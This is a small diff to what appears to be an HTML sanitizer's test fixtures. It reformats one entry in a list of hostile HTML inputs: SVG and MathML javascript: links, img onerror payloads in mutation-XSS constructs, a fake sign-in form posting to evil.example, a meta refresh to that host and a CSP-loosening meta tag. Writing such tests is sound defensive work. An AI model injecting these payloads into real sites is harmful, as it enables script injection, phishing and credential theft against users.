@@ -109,7 +109,8 @@ DOCUMENTS = (
     '<svg><animate attributeName="href" values="javascript:hit(1)"/></svg>',
     "<svg><style><img src=x onerror=hit(1)></style></svg>",
     '<math><mi xlink:href="javascript:hit(1)">x</mi></math>',
-    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit(1)&gt;">',
+    "<math><mtext><table><mglyph><style><!--</style>"
+    '<img title="--&gt;&lt;img src=x onerror=hit(1)&gt;">',
     '<form action="https://evil.example"><input name="q"><button>Sign in</button></form>',
     '<meta http-equiv="refresh" content="0;url=https://evil.example">',
     '<meta http-equiv="Content-Security-Policy" content="script-src *">',
